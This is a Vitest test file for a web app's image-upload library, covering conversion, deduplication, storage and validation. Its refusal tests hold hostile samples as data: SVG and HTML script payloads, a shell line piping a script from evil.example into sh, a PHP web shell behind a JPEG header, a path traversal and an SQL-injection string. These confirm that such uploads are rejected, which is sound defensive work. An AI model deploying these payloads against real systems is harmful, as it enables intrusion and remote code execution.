import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterEach, describe, expect, it } from 'vitest';
import { getCoverImage, readImageVariant } from '@/lib/content/images';
import { auditLog, images, imageVariants } from '@/lib/db/schema';
import { testDatabase } from '@/lib/db/test/database';
import { env } from '@/lib/env';
import { insertStaff } from './test-helpers';
import { z } from 'zod';
import { checkCoverImage, coverImageFields, maxUploadBytes, storeUploadedImage } from './images';

const { db } = testDatabase('migrated', 'adm_images_lib');

/** A solid picture made by sharp itself; `seed` changes its colour, so its bytes. */
function picture(width: number, height: number, seed = 0) {
  return sharp({ create: { width, height, channels: 3, background: { r: (seed * 37) % 256, g: 90, b: 160 } } });
}

const sha16 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex').slice(0, 16);

async function upload(bytes: Buffer, claimedName = 'cover.png', claimedType = 'image/png') {
  const author = await insertStaff(db, 'author');
  return storeUploadedImage({ bytes, claimedName, claimedType }, author.id);
}

async function expectRefused(bytes: Buffer, claimedName: string, claimedType: string, status: number, message: RegExp) {
  const before = await db.$count(images);
  const result = await upload(bytes, claimedName, claimedType);
  expect(result).toEqual({ ok: false, status, message: expect.stringMatching(message) });
  expect(await db.$count(images)).toBe(before);
}

describe('an accepted upload', () => {
  it('makes a PNG into WebP copies 320, 640 and 1280 wide under content-hashed names, with the audit row', async () => {
    const png = await picture(1600, 900, 1).png().toBuffer();
    const result = await upload(png);
    if (!result.ok) throw new Error(result.message);
    const hash = sha16(png);
    expect(result.isNew).toBe(true);
    expect(result.image).toMatchObject({ width: 1600, height: 900 });
    expect(result.image.variants).toEqual([
      { name: `${hash}-320.webp`, width: 320, height: 180, url: `/media/${hash}-320.webp` },
      { name: `${hash}-640.webp`, width: 640, height: 360, url: `/media/${hash}-640.webp` },
      { name: `${hash}-1280.webp`, width: 1280, height: 720, url: `/media/${hash}-1280.webp` },
    ]);
    const served = await readImageVariant(`${hash}-640.webp`);
    expect(served?.contentType).toBe('image/webp');
    const meta = await sharp(served!.bytes).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 640, height: 360 });
    const [row] = await db.select().from(images).where(eq(images.id, result.image.id));
    expect(row).toMatchObject({ sourceFormat: 'png', width: 1600, height: 900 });
    const [entry] = await db.select().from(auditLog).where(eq(auditLog.subjectId, String(result.image.id)));
    expect(entry).toMatchObject({ action: 'image.upload', subjectType: 'image', actorId: row!.uploadedBy });
    expect(entry!.details).toMatchObject({ format: 'PNG', width: 1600, height: 900, variants: [320, 640, 1280] });
  });

  it('turns a JPEG upright by its EXIF orientation, never upscales, and strips its metadata', async () => {
    // 1000 × 600 stored, orientation 6 (rotate 90°): a 600 × 1000 portrait to the reader.
    const jpeg = await picture(1000, 600, 2).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    const result = await upload(jpeg, 'portrait.jpg', 'image/jpeg');
    if (!result.ok) throw new Error(result.message);
    expect(result.image).toMatchObject({ width: 600, height: 1000 });
    expect(result.image.variants.map((v) => [v.width, v.height])).toEqual([[320, 533]]);
    const served = await readImageVariant(result.image.variants[0]!.name);
    const meta = await sharp(served!.bytes).metadata();
    expect(meta.orientation).toBeUndefined();
    expect(meta.exif).toBeUndefined();
  });

  it('is one image when the same bytes come again, whatever they are called', async () => {
    const png = await picture(700, 700, 3).png().toBuffer();
    const first = await upload(png, 'a.png');
    const second = await upload(png, 'another-name.webp', 'image/webp');
    if (!first.ok || !second.ok) throw new Error('refused');
    expect(second.isNew).toBe(false);
    expect(second.image).toEqual(first.image);
    expect(await db.$count(images, eq(images.sha256, createHash('sha256').update(png).digest('hex')))).toBe(1);
    expect(first.image.variants.map((v) => v.width)).toEqual([320, 640]);
  });

  it('keeps one copy, at its own size, of an image narrower than every width', async () => {
    const tiny = await picture(1, 1, 4).png().toBuffer();
    const result = await upload(tiny);
    if (!result.ok) throw new Error(result.message);
    expect(result.image.variants).toEqual([{ name: `${sha16(tiny)}-01.webp`, width: 1, height: 1, url: `/media/${sha16(tiny)}-01.webp` }]);
  });

  it('accepts WebP and AVIF', async () => {
    for (const bytes of [await picture(400, 300, 5).webp().toBuffer(), await picture(400, 300, 6).avif().toBuffer()]) {
      const result = await upload(bytes);
      expect(result.ok && result.image.variants.map((v) => v.width)).toEqual([320]);
    }
  });
});

describe('a refused upload', () => {
  it('is an SVG, even named and typed as a PNG', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="alert(1)"><script>alert(2)</script><rect width="200" height="200"/></svg>');
    await expectRefused(svg, 'photo.png', 'image/png', 415, /SVG images are not accepted/);
    await expectRefused(Buffer.concat([Buffer.from('<?xml version="1.0"?>\n'), svg]), 'photo.jpg', 'image/jpeg', 415, /SVG images are not accepted/);
  });

  it('is a script or a web page renamed as a photo', async () => {
    await expectRefused(Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n'), 'photo.jpg', 'image/jpeg', 415, /not an image we can read/);
    await expectRefused(Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'), 'photo.png', 'image/png', 415, /not an image/);
    // A JPEG's first bytes and then a script: the header alone does not make an image.
    await expectRefused(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<?php system($_GET[1]); ?>')]), 'photo.jpg', 'image/jpeg', 415, /not an image we can read/);
  });

  it('is another image format (a GIF) or an animation', async () => {
    await expectRefused(await picture(50, 50).gif().toBuffer(), 'photo.png', 'image/png', 415, /GIF file, not one we accept/);
    const frame = (colour: string) => sharp({ create: { width: 20, height: 20, channels: 3, background: colour } }).png().toBuffer();
    const animated = await sharp([await frame('#f00'), await frame('#0f0')], { join: { animated: true } }).webp().toBuffer();
    await expectRefused(animated, 'moving.webp', 'image/webp', 415, /Animated images are not accepted/);
  });

  it('is larger than the limit, refused before it is decoded', async () => {
    await expectRefused(Buffer.alloc(maxUploadBytes() + 1, 0xff), 'huge.jpg', 'image/jpeg', 413, /larger than 8 MB/);
  });

  it('claims more pixels than the limit', async () => {
    // 300 kB of PNG that would be 10,000 × 10,000 pixels (300 MB) decoded.
    const huge = await sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#000' } }).png({ compressionLevel: 9 }).toBuffer();
    await expectRefused(huge, 'photo.png', 'image/png', 422, /more than 40 megapixels/);
  });

  it('is empty', async () => {
    await expectRefused(Buffer.alloc(0), 'empty.png', 'image/png', 422, /empty/);
  });
});

describe('in a folder (IMAGE_STORAGE_DIR)', () => {
  let folder = '';
  afterEach(async () => {
    env.IMAGE_STORAGE_DIR = undefined;
    await rm(folder, { recursive: true, force: true });
  });

  it('writes each copy as a file, keeps no bytes in the table, and serves them from there', async () => {
    folder = await mkdtemp(path.join(os.tmpdir(), 'adm-images-'));
    env.IMAGE_STORAGE_DIR = folder;
    const png = await picture(900, 450, 7).png().toBuffer();
    const result = await upload(png);
    if (!result.ok) throw new Error(result.message);
    const names = result.image.variants.map((v) => v.name);
    expect((await readdir(folder)).sort()).toEqual([...names].sort());
    const rows = await db.select({ name: imageVariants.name, bytes: imageVariants.bytes, byteLength: imageVariants.byteLength }).from(imageVariants).where(eq(imageVariants.imageId, result.image.id));
    expect(rows.every((r) => r.bytes === null)).toBe(true);
    const served = await readImageVariant(names[1]!);
    expect(served!.bytes.equals(await readFile(path.join(folder, names[1]!)))).toBe(true);
    expect(served!.bytes.byteLength).toBe(rows.find((r) => r.name === names[1])!.byteLength);
    // A file gone from the folder is a 404, not a crash.
    await rm(path.join(folder, names[0]!));
    expect(await readImageVariant(names[0]!)).toBeNull();
  });
});

describe('reading', () => {
  it('answers null for an unknown or malformed name', async () => {
    expect(await readImageVariant('0123456789abcdef-640.webp')).toBeNull();
    expect(await readImageVariant('../../etc/passwd')).toBeNull();
    expect(await readImageVariant('0123456789ABCDEF-640.webp')).toBeNull();
  });

  it('gives a cover its srcset, widest copy and text alternative', async () => {
    const png = await picture(1400, 700, 8).png().toBuffer();
    const result = await upload(png);
    if (!result.ok) throw new Error(result.message);
    const h = sha16(png);
    expect(await getCoverImage(result.image.id, 'A chest X-ray')).toEqual({
      src: `/media/${h}-1280.webp`,
      srcSet: `/media/${h}-320.webp 320w, /media/${h}-640.webp 640w, /media/${h}-1280.webp 1280w`,
      width: 1280,
      height: 640,
      alt: 'A chest X-ray',
    });
    expect(await getCoverImage(null, 'x')).toBeNull();
  });
});

describe('the cover image fields of an editor’s save', () => {
  const Schema = z.object(coverImageFields);

  it('reads an id and a text alternative, each null when empty', () => {
    expect(Schema.parse({ coverImageId: '12', coverImageAlt: '  A chest X-ray ' })).toEqual({ coverImageId: 12, coverImageAlt: 'A chest X-ray' });
    expect(Schema.parse({ coverImageId: '', coverImageAlt: '' })).toEqual({ coverImageId: null, coverImageAlt: null });
    expect(Schema.parse({})).toEqual({ coverImageId: null, coverImageAlt: null });
    expect(Schema.safeParse({ coverImageId: '1; drop table images' }).success).toBe(false);
    expect(Schema.safeParse({ coverImageAlt: 'x'.repeat(301) }).success).toBe(false);
  });

  it('refuses an image that is not there, with a message beside the field', async () => {
    const png = await picture(330, 200, 9).png().toBuffer();
    const stored = await upload(png);
    if (!stored.ok) throw new Error(stored.message);
    expect(await checkCoverImage(db, { coverImageId: stored.image.id })).toBeNull();
    expect(await checkCoverImage(db, { coverImageId: null })).toBeNull();
    expect(await checkCoverImage(db, { coverImageId: 999_999 })).toEqual({ coverImageId: ['That image is no longer there: upload it again.'] });
  });
});
